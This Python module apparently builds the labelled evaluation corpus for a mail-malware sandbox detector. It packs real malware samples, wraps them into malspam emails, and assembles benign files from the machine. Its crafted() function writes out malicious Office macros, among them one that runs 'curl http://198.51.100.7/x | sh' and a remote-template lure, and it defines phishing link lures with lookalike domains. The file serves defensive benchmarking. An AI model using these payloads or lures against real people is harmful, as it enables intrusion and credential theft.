"""The labelled development corpus of ``make eval`` (see ``bench/corpus/README.md``).

Where the samples come from:

* **real malware and phishing** from public collections, committed as
  ``bench/corpus/dev-malware.zip`` (AES zip, password ``infected``, as oletools
  ships its samples) with ``bench/corpus/manifest.json`` (SHA-256, class, label,
  source repository and path, licence note per sample); unpacked into a private
  temporary directory and only ever run through mailvm's sandbox;
* an **outside directory** (``--corpus DIR`` or ``$MAILVM_EVAL_CORPUS``) laid out
  as ``DIR/<class>/<file>``: ``benign-*`` and ``ham`` folders are benign, every
  other folder malicious;
* **malspam messages made at run time** around the real samples (zip, zip in zip,
  AES zip with the password in the body, 7z, plain attachment) and crafted
  link-only lures and documents (the test suite's own builders);
* **benign files of this machine**, chosen deterministically (sorted, seeded):
  Python modules, shell scripts, ELF tools, PE launchers that Python packages
  ship, Windows scripts shipped by packages, PDF/HTML documentation and Office
  files LibreOffice makes from the machine's own texts; **ham** from
  ``$MAILVM_CORPUS`` (SpamAssassin's test ham) when present, plus made ham.

Nothing here executes a sample.
"""

from __future__ import annotations

import collections
import email.message
import glob
import hashlib
import io
import json
import os
import random
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable

ROOT = Path(__file__).resolve().parent.parent
CORPUS_DIR = ROOT / "bench" / "corpus"
CORPUS_ZIP = CORPUS_DIR / "dev-malware.zip"
MANIFEST = CORPUS_DIR / "manifest.json"
PASSWORD = "infected"
SEED = 20261205

#: malicious classes, in report order
MALICIOUS_CLASSES = (
    "windows-pe", "dotnet", "script-jscript", "script-vbs", "script-powershell", "script-hta-bat",
    "office-macro", "office-exploit", "pdf-lure", "html-phish", "other-lure",
    "malspam-eml", "phishing-eml", "link-lure-eml", "crafted-lure",
)
#: benign classes, in report order
BENIGN_CLASSES = ("benign-technical", "benign-winscript", "benign-documents", "ham")
CLASSES = MALICIOUS_CLASSES + BENIGN_CLASSES

#: licence notes of the source repositories (their own words summarised; samples are third-party malware)
LICENCES = {
    "InQuest/malware-samples": "repository under the MIT licence",
    "HynekPetrak/javascript-malware-collection": "repository under CC0 1.0",
    "ytisf/theZoo": "samples are not under theZoo's GPLv3 (its LICENSE.md); shared for research",
    "jstrosch/malware-samples": "no licence stated; shared for education and research",
    "helsecert/workshop_malspam": "no licence stated; workshop material of the Norwegian health CERT",
    "packetrat/phishing-kits-I-found": "no licence stated; phishing kits found in the wild",
    "fabrimagic72/malware-samples": "no licence stated; honeypot captures shared for analysis",
}


@dataclass
class Sample:
    cls: str
    name: str
    path: Path
    message: bool
    label: str  # malicious | benign
    source: str = ""


def label_of(cls: str) -> str:
    return "benign" if cls.startswith("benign") or cls == "ham" else "malicious"


def _is_message(path: Path) -> bool:
    return path.suffix.lower() == ".eml"


# -- the committed set -----------------------------------------------------------------------


def unpack_committed(dest: Path, zip_path: Path = CORPUS_ZIP, manifest: Path = MANIFEST) -> list[Sample]:
    """The password-zipped development set, unpacked into ``dest`` (a private temporary directory)."""
    import pyzipper

    if not zip_path.exists() or not manifest.exists():
        return []
    meta = json.loads(manifest.read_text())
    out = []
    with pyzipper.AESZipFile(zip_path) as z:
        z.setpassword(meta["password"].encode())
        for info in meta["samples"]:
            data = z.read(info["path"])
            if hashlib.sha256(data).hexdigest() != info["sha256"]:
                raise ValueError(f"{zip_path}: {info['path']}: SHA-256 differs from {manifest.name}")
            target = dest / info["path"]
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
            out.append(Sample(info["class"], Path(info["path"]).name, target, _is_message(target), info["label"],
                              info["source"]))
    return out


def outside_corpus(directory: str | os.PathLike[str]) -> list[Sample]:
    """Samples of an outside directory laid out as ``DIR/<class>/<file>`` (deterministic order)."""
    base = Path(directory)
    out = []
    for cls_dir in sorted(p for p in base.iterdir() if p.is_dir()):
        for f in sorted(p for p in cls_dir.rglob("*") if p.is_file() and not p.is_symlink()):
            out.append(Sample(cls_dir.name, f.name, f, _is_message(f), label_of(cls_dir.name), f"outside corpus {base.name}"))
    return out


def pack(src: Path, sources: dict[str, str], zip_path: Path = CORPUS_ZIP, manifest: Path = MANIFEST) -> dict:
    """Zip ``src/<class>/<file>`` (AES, password ``infected``) and write the manifest.

    ``sources`` maps ``<class>/<file>`` to "owner/repo (path in it)"; identical files (same SHA-256)
    are kept once. Returns the manifest.
    """
    import pyzipper

    samples, seen = [], set()
    for rel in sorted(sources):
        data = (src / rel).read_bytes()
        sha = hashlib.sha256(data).hexdigest()
        if sha in seen:
            continue
        seen.add(sha)
        cls = rel.split("/", 1)[0]
        repo = sources[rel].split(" ", 1)[0]
        samples.append({"path": rel, "sha256": sha, "size": len(data), "class": cls, "label": label_of(cls),
                        "source": sources[rel], "licence": LICENCES.get(repo, "see the source repository")})
    tmp = zip_path.with_suffix(".tmp")
    with pyzipper.AESZipFile(tmp, "w", compression=pyzipper.ZIP_LZMA, encryption=pyzipper.WZ_AES) as z:
        z.setpassword(PASSWORD.encode())
        for s in samples:
            z.writestr(s["path"], (src / s["path"]).read_bytes())
    os.replace(tmp, zip_path)
    meta = {"password": PASSWORD, "note": "real malware: never unpack by hand; python -m bench.detection runs it "
            "only through mailvm's sandbox", "samples": samples}
    manifest.write_text(json.dumps(meta, indent=1) + "\n")
    return meta


# -- messages made at run time ------------------------------------------------------------


def message(subject: str, body: str, attachments: Iterable[tuple[str, bytes, str]] = (), html: str | None = None,
            sender: str = "Accounts <billing@supplier-invoices.example>") -> bytes:
    m = email.message.EmailMessage()
    m["From"] = sender
    m["To"] = "someone@example.com"
    m["Subject"] = subject
    m["Message-ID"] = f"<{hashlib.sha256((subject + body).encode()).hexdigest()[:16]}@eval.mailvm>"
    m.set_content(body)
    if html is not None:
        m.add_alternative(html, subtype="html")
    for name, data, ctype in attachments:
        main, _, sub = ctype.partition("/")
        m.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return m.as_bytes()


def make_zip(members: list[tuple[str, bytes]], password: bytes | None = None) -> bytes:
    import pyzipper

    buf = io.BytesIO()
    if password:
        with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as z:
            z.setpassword(password)
            for n, d in members:
                z.writestr(n, d)
    else:
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n, d in members:
                z.writestr(n, d)
    return buf.getvalue()


def make_7z(members: list[tuple[str, bytes]]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for n, d in members:
            z.writestr(d, n)
    return buf.getvalue()


MALSPAM_SOURCES = ("windows-pe", "dotnet", "script-jscript", "script-vbs", "script-hta-bat", "office-macro",
                   "other-lure")
MALSPAM_STYLES = ("zip", "zip-in-zip", "password-zip", "7z", "plain")


def malspam(samples: list[Sample], dest: Path, rnd: random.Random, n: int = 20) -> list[Sample]:
    """Real samples wrapped the way malspam carries them (one message per sample, styles in turn)."""
    pick = sorted((s for s in samples if s.cls in MALSPAM_SOURCES and not s.message), key=lambda s: (s.cls, s.name))
    rnd.shuffle(pick)
    # round-robin over the source classes so every kind of payload is carried
    by_cls: dict[str, list[Sample]] = {}
    for s in pick:
        by_cls.setdefault(s.cls, []).append(s)
    order: list[Sample] = []
    while any(by_cls.values()) and len(order) < n:
        for cls in MALSPAM_SOURCES:
            if by_cls.get(cls) and len(order) < n:
                order.append(by_cls[cls].pop())
    out = []
    for i, s in enumerate(order):
        style = MALSPAM_STYLES[i % len(MALSPAM_STYLES)]
        data = s.path.read_bytes()
        name = f"Invoice_{4000 + i}{Path(s.name).suffix.lower() or '.bin'}"
        if style == "zip":
            att = [(f"Invoice_{4000 + i}.zip", make_zip([(name, data)]), "application/zip")]
            body = "Please find the invoice attached."
        elif style == "zip-in-zip":
            att = [("documents.zip", make_zip([("invoice.zip", make_zip([(name, data)]))]), "application/zip")]
            body = "Payment documents attached."
        elif style == "password-zip":
            att = [("secure_document.zip", make_zip([(name, data)], b"7731"), "application/zip")]
            body = "The attached document is protected. Password: 7731"
        elif style == "7z":
            att = [(f"order_{4000 + i}.7z", make_7z([(name, data)]), "application/x-7z-compressed")]
            body = "Your order confirmation is attached."
        else:
            att = [(name, data, "application/octet-stream")]
            body = "See the attached file."
        p = dest / "malspam" / f"{i:02d}-{style}.eml"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(message(f"Invoice {4000 + i} overdue", body, att))
        out.append(Sample("malspam-eml", p.name, p, True, "malicious", f"{style} around {s.cls}/{s.name}"))
    return out


LINK_LURES = [
    ("Your mailbox is almost full", "Your mailbox is almost full. Verify your account within 24 hours or incoming "
     "messages will be held.", "https://micros0ft-office365-login.web.app/owa/?u=someone@example.com", "Verify now"),
    ("Password expires today", "Your password expires today. Keep your current password here.",
     "http://198.51.100.23/outlook/keep.php", "Keep password"),
    ("Unusual sign-in activity", "We detected unusual sign-in activity on your account. Confirm your identity.",
     "https://paypa1-secure-account.com/signin", "Confirm identity"),
    ("Shared document", "Anna shared a document with you. Sign in to view the document.",
     "https://docs-sharepoint-online.duckdns.org/view?id=3", "View document"),
    ("Account suspended", "Your account has been suspended. Update your billing information to restore access.",
     "https://bit.ly/3xYzAb", "Restore access"),
    ("Pending messages", "You have 6 pending incoming messages. Action required: release them now.",
     "https://xn--micrsoft-5va.com/release", "Release messages"),
    ("Voicemail received", "You received a new voicemail (0:42). Listen to the message with your email password.",
     "https://voicemail-portal.ddns.net/play?id=88", "Play voicemail"),
    ("Invoice payment failed", "Your last payment failed. Update your card details to avoid service interruption.",
     "http://203.0.113.45/billing/update.html", "Update payment"),
    ("DocuSign: please review", "Please review and sign the document sent to you. The link expires today.",
     "https://docusign-review.netlify.app/sign?env=77", "Review document"),
    ("Parcel on hold", "Your parcel is on hold because of unpaid customs fees. Pay 1.99 EUR to release it.",
     "https://dhl-parcel-release.top/pay", "Pay now"),
]


def link_lures(dest: Path) -> list[Sample]:
    """Crafted link-only lures (no attachment): only the body can be judged."""
    out = []
    for i, (subject, text, url, cta) in enumerate(LINK_LURES):
        html = f"<html><body><p>{text}</p><p><a href=\"{url}\">{cta}</a></p><p>IT Service Desk</p></body></html>"
        p = dest / "link-lure" / f"{i:02d}.eml"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(message(subject, text + "\n" + url, html=html, sender="IT Service Desk <it-support@example.net>"))
        out.append(Sample("link-lure-eml", p.name, p, True, "malicious", "crafted link-only lure"))
    return out


def crafted(dest: Path) -> list[Sample]:
    """The crafted lures the tests detonate (a .docm whose Document_Open starts a shell, an ODT with a Basic
    macro, a remote-template .docx, a password form posting elsewhere, HTML smuggling a zip, a one-link PDF
    lure), built with the test suite's own builders so that they show in the evaluation too."""
    sys.path.insert(0, str(ROOT / "tests"))
    try:
        from office_builder import docx, odt
        from pdf_builder import Doc
        from test_guest_browser import PHISH, SMUGGLE
    except Exception as exc:  # the tests folder is part of the repository; say so if it is not there
        print(f"bench.detection: crafted lures unavailable: {exc}", file=sys.stderr)
        return []
    finally:
        sys.path.pop(0)
    shell = 'Private Sub Document_Open()\n    Shell "/bin/sh -c ""id > /tmp/owned; uname -a"""\nEnd Sub\n'
    pdf = Doc().page(lines=("Your document is ready",),
                     links=(("http://docs-secure-view.duckdns.org/doc/7781", (72, 500, 540, 700), "VIEW DOCUMENT"),)).build()
    items = {
        "invoice.docm": docx("Invoice 4711", vba={"ThisDocument": shell}),
        "notes.odt": odt("Meeting notes", basic='Shell("/bin/sh", 1, "-c ""curl http://198.51.100.7/x | sh""")'),
        "report.docx": docx("Report", remote_template="http://198.51.100.9/tpl.dotm"),
        "login.html": PHISH,
        "invoice.html": SMUGGLE,
        "shared-document.pdf": pdf,
    }
    out = []
    for name, data in items.items():
        p = dest / "crafted" / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        out.append(Sample("crafted-lure", name, p, False, "malicious", "crafted, built by the test builders"))
    return out


# -- benign files of this machine ------------------------------------------------------------


def _pick(paths: Iterable[str], n: int, rnd: random.Random, ok: Callable[[str], bool] = lambda p: True,
          unique: bool = True) -> list[str]:
    cand = sorted({p for p in paths if os.path.isfile(p) and not os.path.islink(p)})
    rnd.shuffle(cand)
    out, seen = [], set()
    for p in cand:
        if len(out) >= n:
            break
        if not ok(p):
            continue
        if unique:
            try:
                with open(p, "rb") as fh:
                    h = hashlib.sha256(fh.read(4_000_000)).hexdigest()
            except OSError:
                continue
            if h in seen:
                continue
            seen.add(h)
        out.append(p)
    return sorted(out)


def _head(path: str, n: int = 64) -> bytes:
    try:
        with open(path, "rb") as fh:
            return fh.read(n)
    except OSError:
        return b""


def _is_shell(path: str) -> bool:
    return _head(path).startswith((b"#!/bin/sh", b"#! /bin/sh", b"#!/bin/bash", b"#!/usr/bin/env bash",
                                   b"#!/usr/bin/env sh"))


def _small(limit: int) -> Callable[[str], bool]:
    return lambda p: os.path.getsize(p) < limit


def _is_elf(path: str) -> bool:
    return _head(path, 4) == b"\x7fELF" and os.path.getsize(path) < 2_000_000


def _is_pe(path: str) -> bool:
    return _head(path, 2) == b"MZ" and os.path.getsize(path) < 8_000_000


_INDEX: dict[tuple[str, ...], dict[str, list[str]]] = {}


def files_by_suffix(roots: tuple[str, ...] = ("/usr",)) -> dict[str, list[str]]:
    """Regular files under ``roots`` by lower-case suffix (one walk, symbolic links not followed, cached)."""
    if roots not in _INDEX:
        index: dict[str, list[str]] = collections.defaultdict(list)
        for root in roots:
            for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
                dirnames.sort()
                for f in filenames:
                    index[os.path.splitext(f)[1].lower()].append(os.path.join(dirpath, f))
        _INDEX[roots] = index
    return _INDEX[roots]


def _pe_launchers() -> list[str]:
    """Windows programs that Python packages and Debian packages ship (pip/setuptools/distlib launchers,
    Mono tools, test PEs), never Wine's own builtin programs (they open windows and wait)."""
    roots = tuple(sorted({sysconfig.get_paths()["purelib"], str(Path(sys.executable).resolve().parent.parent)}))
    found = set(files_by_suffix(roots).get(".exe", [])) | set(files_by_suffix().get(".exe", []))
    return [p for p in found if "wine" not in p]


def benign_technical(n: int, rnd: random.Random) -> list[Sample]:
    """``n`` technical attachments in four equal parts, like the held-out set of issue 10: Python
    standard-library modules, shell scripts, ELF tools and PE launchers."""
    stdlib = sysconfig.get_paths()["stdlib"]
    q = max(1, n // 4)
    groups = [
        (_pick(glob.glob(f"{stdlib}/*.py") + glob.glob(f"{stdlib}/*/*.py"), q, rnd, _small(400_000)), "Python module"),
        (_pick(glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*") + files_by_suffix().get(".sh", []),
               q, rnd, lambda p: _is_shell(p) and os.path.getsize(p) < 400_000), "shell script"),
        (_pick(glob.glob("/usr/bin/*"), q, rnd, _is_elf), "ELF tool"),
        (_pick(_pe_launchers(), n - 3 * q, rnd, _is_pe), "PE shipped by a package"),
    ]
    return [Sample("benign-technical", os.path.basename(p), Path(p), False, "benign", f"this machine ({what})")
            for paths, what in groups for p in paths]


def benign_winscript(n: int, rnd: random.Random) -> list[Sample]:
    """Windows scripts that Debian and npm packages ship (.ps1, .bat/.cmd, .js)."""
    idx = files_by_suffix()
    ps1 = idx.get(".ps1", [])
    bat = idx.get(".bat", []) + idx.get(".cmd", [])
    js = [p for p in idx.get(".js", []) if p.startswith(("/usr/share/javascript/", "/usr/lib/node_modules/"))]
    third = max(1, n // 3)
    paths = (_pick(ps1, third, rnd, _small(200_000)) + _pick(bat, third, rnd, _small(200_000))
             + _pick(js, n - 2 * third, rnd, _small(200_000)))
    return [Sample("benign-winscript", os.path.basename(p), Path(p), False, "benign", "this machine") for p in paths]


def _soffice_documents(dest: Path, rnd: random.Random, n_texts: int) -> list[Path]:
    """Office files and PDFs that LibreOffice makes from texts of this machine (README/copyright files)
    and from a table of them: .docx, .odt, .doc, .pdf, .xlsx, .ods, .xls. Empty without LibreOffice."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        return []
    src = dest / "doc-src"
    src.mkdir(parents=True, exist_ok=True)
    texts = _pick(glob.glob("/usr/share/doc/*/README*") + glob.glob("/usr/share/doc/*/copyright"), n_texts, rnd,
                  lambda p: 800 < os.path.getsize(p) < 60_000 and not p.endswith(".gz"))
    inputs = []
    for i, p in enumerate(texts):
        t = src / f"{i:02d}-{Path(p).parent.name}.txt"
        t.write_text(Path(p).read_text(errors="replace"))
        inputs.append(t)
    table = src / "packages.csv"
    rows = ["package,file,bytes"] + [f"{Path(p).parent.name},{Path(p).name},{os.path.getsize(p)}" for p in texts]
    table.write_text("\n".join(rows) + "\n")
    out_dir = dest / "documents"
    out_dir.mkdir(parents=True, exist_ok=True)
    profile = dest / "lo-profile"
    conversions = [("docx", inputs[0::3]), ("odt", inputs[1::3]), ("doc", inputs[2::3]), ("pdf", inputs),
                   ("xlsx", [table]), ("ods", [table]), ("xls", [table])]
    made: list[Path] = []
    for fmt, files in conversions:
        if not files:
            continue
        sub = out_dir / fmt
        sub.mkdir(exist_ok=True)
        try:
            subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                            "--convert-to", fmt, "--outdir", str(sub)] + [str(f) for f in files],
                           capture_output=True, timeout=300, check=False)
        except (OSError, subprocess.SubprocessError) as exc:
            print(f"bench.detection: LibreOffice conversion to {fmt} failed: {exc}", file=sys.stderr)
            continue
        made += sorted(sub.iterdir())
    return made


def benign_documents(dest: Path, n: int, rnd: random.Random, corpus: Path | None) -> list[Sample]:
    """PDF and HTML documentation of this machine, Office files and PDFs LibreOffice makes from its texts,
    Office files LibreOffice ships, and the clean Office samples of ``$MAILVM_CORPUS`` when present."""
    out: list[Sample] = []
    idx = files_by_suffix()
    pdfs = [p for p in idx.get(".pdf", []) if p.startswith(("/usr/share/doc/", "/usr/lib/libreoffice/"))]
    for p in _pick(pdfs, 6, rnd, _small(5_000_000)):
        out.append(Sample("benign-documents", os.path.basename(p), Path(p), False, "benign", "this machine (PDF)"))
    html = [p for p in idx.get(".html", []) if p.startswith("/usr/share/doc/")]
    for p in _pick(html, max(4, n // 3), rnd, _small(1_000_000)):
        out.append(Sample("benign-documents", os.path.basename(p), Path(p), False, "benign", "this machine (HTML)"))
    lo = [p for p in idx.get(".odt", []) + idx.get(".ods", []) if p.startswith("/usr/lib/libreoffice/")]
    for p in _pick(lo, 2, rnd, _small(2_000_000)):
        out.append(Sample("benign-documents", os.path.basename(p), Path(p), False, "benign",
                          "this machine (LibreOffice)"))
    for p in _soffice_documents(dest, rnd, max(3, n // 4)):
        out.append(Sample("benign-documents", p.name, p, False, "benign",
                          f"made by LibreOffice from this machine's texts ({p.suffix})"))
    if corpus is not None:
        for rel in ("oletools-test-data/msodde/harmless-clean.doc", "oletools-test-data/msodde/harmless-clean.docx",
                    "oletools-test-data/msodde/harmless-clean.docm",
                    "zbateson-mail-mime-parser/tests/_data/emails/files/test.doc"):
            p = corpus / rel
            if p.is_file():
                out.append(Sample("benign-documents", p.name, p, False, "benign", "external test corpus"))
    return out


HAM = [
    ("Lunch on Friday?", "Hi, are we still on for lunch on Friday? The place on 5th street opens at noon.", None),
    ("Minutes of the planning meeting", "Attached are the minutes. Next meeting: Tuesday 10:00.",
     "<p>Attached are the <b>minutes</b>. Next meeting: Tuesday 10:00. Agenda: "
     "<a href=\"https://wiki.example.com/planning\">wiki.example.com/planning</a></p>"),
    ("Your order has shipped", "Your order 1234 has shipped. Track it at https://shop.example.com/track/1234",
     "<p>Your order has shipped.</p><p><a href=\"https://shop.example.com/track/1234\">Track your parcel</a></p>"
     "<p>To sign in to your account, visit <a href=\"https://shop.example.com/account\">shop.example.com</a></p>"),
    ("Newsletter: December", "Read the newsletter online.",
     "<html><body><h1>December news</h1><p>New releases this month.</p>"
     "<a href=\"https://click.news.example.net/r?u=https%3A%2F%2Fwww.example.org%2Fnews\">Read more</a>"
     "<p><a href=\"https://www.example.org/unsubscribe\">Unsubscribe</a></p></body></html>"),
    ("Password changed", "Your password was changed on Tuesday. If this was you, no action is needed. Otherwise "
     "visit https://accounts.example.com/security", None),
    ("Invoice 2024-118", "Dear customer, attached is invoice 2024-118 for November. Payment is due in 30 days.", None),
    ("Build failed: main", "The nightly build of main failed in test_parser. See https://ci.example.org/job/812",
     "<p>The nightly build of <code>main</code> failed.</p><p><a href=\"https://ci.example.org/job/812\">Job 812</a></p>"),
]


def ham(dest: Path, rnd: random.Random, n: int, corpus: Path | None) -> list[Sample]:
    out = []
    nice = corpus / "apache-spamassassin-tdata" / "t" / "data" / "nice" if corpus is not None else None
    if nice is not None and nice.is_dir():
        for p in _pick(glob.glob(str(nice / "*")), n, rnd):
            out.append(Sample("ham", os.path.basename(p), Path(p), True, "benign", "SpamAssassin test ham"))
    attachments = {5: [("invoice-2024-118.pdf", None, "application/pdf")]}
    docs = sorted(p for p in files_by_suffix().get(".pdf", []) if p.startswith("/usr/share/doc/"))
    for i, (subject, text, html) in enumerate(HAM):
        atts = []
        for name, _, ctype in attachments.get(i, []):
            if docs:
                atts.append((name, Path(docs[0]).read_bytes(), ctype))
        p = dest / "ham" / f"{i:02d}.eml"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(message(subject, text, atts, html=html, sender="Colleague <colleague@example.com>"))
        out.append(Sample("ham", p.name, p, True, "benign", "made at run time"))
    return out


def external_corpus() -> Path | None:
    """``$MAILVM_CORPUS`` (the public test corpus the tests use), when it exists."""
    base = os.environ.get("MAILVM_CORPUS", str(ROOT.parent / "shared" / "corpus"))
    return Path(base) if Path(base).is_dir() else None


def build(dest: Path, per_class: int, outside: str | None = None) -> list[Sample]:
    """Every sample of the evaluation, made or unpacked into ``dest`` (deterministic)."""
    rnd = random.Random(SEED)
    corpus = external_corpus()
    real = unpack_committed(dest / "committed")
    if outside:
        real += outside_corpus(outside)
    samples = list(real)
    samples += malspam(real, dest, random.Random(SEED + 1))
    samples += link_lures(dest)
    samples += crafted(dest)
    samples += benign_technical(per_class * 4, random.Random(SEED + 2))
    samples += benign_winscript(max(6, per_class * 3 // 4), random.Random(SEED + 3))
    samples += benign_documents(dest, per_class, random.Random(SEED + 4), corpus)
    samples += ham(dest, random.Random(SEED + 5), per_class, corpus)
    return samples


def main(argv: list[str] | None = None) -> int:
    """``python -m bench.detection_corpus pack DIR SOURCES.json``: rebuild the committed zip and manifest."""
    import argparse

    ap = argparse.ArgumentParser(prog="python -m bench.detection_corpus")
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("pack", help="zip DIR/<class>/<file> (AES, password infected) and write manifest.json")
    p.add_argument("dir")
    p.add_argument("sources", help="JSON object: '<class>/<file>' -> 'owner/repo (path)'")
    args = ap.parse_args(argv)
    meta = pack(Path(args.dir), json.loads(Path(args.sources).read_text()))
    print(f"{len(meta['samples'])} samples, {CORPUS_ZIP.stat().st_size} bytes in {CORPUS_ZIP.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
